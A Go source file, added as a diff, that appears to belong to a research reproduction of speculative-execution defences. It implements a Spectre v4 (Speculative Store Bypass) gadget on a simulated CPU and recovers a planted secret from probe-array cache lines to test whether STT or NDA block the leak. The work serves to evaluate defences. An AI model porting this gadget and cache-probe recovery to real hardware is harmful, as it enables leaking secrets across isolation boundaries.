@@ -1,0 +1,113 @@
+package attack
+
+import (
+	"fmt"
+
+	"repro/internal/core"
+	"repro/internal/isa"
+)
+
+// Speculative Store Bypass (Spectre v4 / CVE-2018-3639). The paper's
+// combined threat model covers D-shadows precisely because of this attack
+// (Section 6: "using them as the basis for a secure speculation scheme
+// provides defenses against Speculative Store Bypass").
+//
+// The gadget:
+//
+//	*p = 0          // store whose address p arrives late (dependence chain)
+//	y  = buf[0]     // load speculatively bypasses the store, reads the
+//	                // STALE value previously planted at buf[0] — the secret
+//	z  = probe[(y&63)*512]  // transmitter
+//
+// The LSU predicts no-alias and lets the load run ahead of the unresolved
+// store address; the stale secret flows to the probe load. When the store
+// address resolves, the violation is detected and the pipeline flushed —
+// but on the unsafe baseline the probe line has already been filled.
+// Under STT the stale load's value is tainted (the load executes under the
+// store's D-shadow), so the probe load is blocked; under NDA the stale
+// value's broadcast is withheld. Either way the probe line stays cold.
+
+const (
+	ssbBufAddr   = 0x0007_0000 // the slot: secret planted, then overwritten
+	ssbProbeAddr = 0x0200_0000
+	ssbSlowAddr  = 0x0008_0000 // long-latency input to the store's address
+
+	// SSBSecret is planted in the slot before the gadget runs; the gadget
+	// architecturally overwrites it with zero before reading it back.
+	SSBSecret = 27
+)
+
+// ssbProgram builds the SSB victim. The store's address is computed from a
+// value loaded at ssbSlowAddr (flushed by the harness), so it resolves
+// ~100 cycles late; the reload and the dependent probe access race ahead.
+func ssbProgram() *isa.Program {
+	b := isa.NewBuilder("spectre-ssb")
+	b.Data(ssbBufAddr, []uint64{SSBSecret})
+	b.Data(ssbSlowAddr, []uint64{ssbBufAddr}) // the store's base pointer
+
+	b.Li(isa.X20, ssbSlowAddr)
+	b.Li(isa.X21, ssbBufAddr)
+	b.Li(isa.X22, ssbProbeAddr)
+	// The victim legitimately uses the slot, so its line is warm; the
+	// transient reload must hit for its stale value to reach the
+	// transmitter before the ordering violation flushes the pipeline.
+	b.Ld(isa.X9, isa.X21, 0)
+
+	// A nop sled separates setup from the gadget so the harness can pause
+	// and flush the slow pointer while nothing is in flight.
+	for i := 0; i < nopSledLen; i++ {
+		b.Nop()
+	}
+
+	// The gadget: one round.
+	b.Ld(isa.X5, isa.X20, 0) // p = *slow (flushed: ~DRAM latency)
+	b.Sd(isa.X0, isa.X5, 0)  // *p = 0: overwrites the secret, address late
+	b.Ld(isa.X6, isa.X21, 0) // reload buf[0]: speculatively bypasses the store
+	b.Andi(isa.X6, isa.X6, 63)
+	b.Slli(isa.X7, isa.X6, 9)
+	b.Add(isa.X7, isa.X7, isa.X22)
+	b.Ld(isa.X8, isa.X7, 0) // transmitter
+	b.Halt()
+	return b.MustBuild()
+}
+
+// RunSpectreSSB runs the Speculative Store Bypass attack on the given
+// configuration and scheme.
+func RunSpectreSSB(cfg core.Config, kind core.SchemeKind) (Result, error) {
+	prog := ssbProgram()
+	c, err := core.New(cfg, kind, prog)
+	if err != nil {
+		return Result{}, err
+	}
+	// Let setup commit, then flush the store's address input and prime the
+	// probe array.
+	if _, err := c.Run(core.RunLimits{MaxInsts: 8, MaxCycles: 1_000_000}); err != nil {
+		return Result{}, fmt.Errorf("attack: ssb setup: %w", err)
+	}
+	c.Hierarchy().FlushLine(ssbSlowAddr)
+	for slot := 0; slot < 64; slot++ {
+		c.Hierarchy().FlushLine(ssbProbeAddr + uint64(slot)*slotStride)
+	}
+	res, err := c.Run(core.RunLimits{MaxCycles: 10_000_000})
+	if err != nil {
+		return Result{}, fmt.Errorf("attack: ssb transient phase: %w", err)
+	}
+	if !res.Halted {
+		return Result{}, fmt.Errorf("attack: ssb victim did not halt")
+	}
+
+	out := Result{Scheme: kind, Config: cfg.Name, GuessedSecret: -1,
+		Insts: res.Insts, Cycles: res.Cycles}
+	// The architectural value at the slot is 0, so slot 0 is legitimately
+	// hot; any other hot slot betrays the stale (secret) value.
+	for slot := 1; slot < 64; slot++ {
+		if c.Hierarchy().Contains(ssbProbeAddr + uint64(slot)*slotStride) {
+			out.HotSlots = append(out.HotSlots, slot)
+		}
+	}
+	if len(out.HotSlots) == 1 {
+		out.GuessedSecret = out.HotSlots[0]
+	}
+	out.Leaked = len(out.HotSlots) > 0
+	return out, nil
+}
